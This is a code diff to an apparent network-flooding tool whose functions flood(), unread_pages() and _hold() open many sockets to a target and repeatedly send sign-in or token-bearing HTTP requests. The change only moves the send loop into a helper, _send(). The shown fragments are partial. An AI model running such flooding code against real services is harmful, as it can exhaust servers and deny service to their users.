@@ -64,11 +64,7 @@ def flood(target: Target) -> int:
     request = f"GET /sign-in HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
     answered = 0
     for peers in _crowd(target):
-        for peer in list(peers):
-            try:
-                peer.sendall(request)
-            except OSError:
-                peers.remove(peer)
+        _send(peers, request)
         readable, _, _ = select.select(peers, [], [], PAUSE_SECONDS)
         for peer in readable:
             with contextlib.suppress(OSError):
@@ -135,11 +131,7 @@ def unread_pages(target: Target) -> None:
         f"Authorization: Bearer {target.tokens[0]}\r\n\r\n"
     ).encode()
     for peers in _crowd(target):
-        for peer in list(peers):
-            try:
-                peer.sendall(request)
-            except OSError:
-                peers.remove(peer)
+        _send(peers, request)
         time.sleep(PAUSE_SECONDS)
 
 
@@ -176,6 +168,15 @@ def _hold(target: Target, start: bytes) -> int:
             except OSError:
                 peers.remove(peer)
     return len(peers)
+
+
+def _send(peers: list[socket.socket], request: bytes) -> None:
+    """To each of them; those that broke are taken off the list."""
+    for peer in list(peers):
+        try:
+            peer.sendall(request)
+        except OSError:
+            peers.remove(peer)
 
 
 def _crowd(target: Target) -> Iterator[list[socket.socket]]:
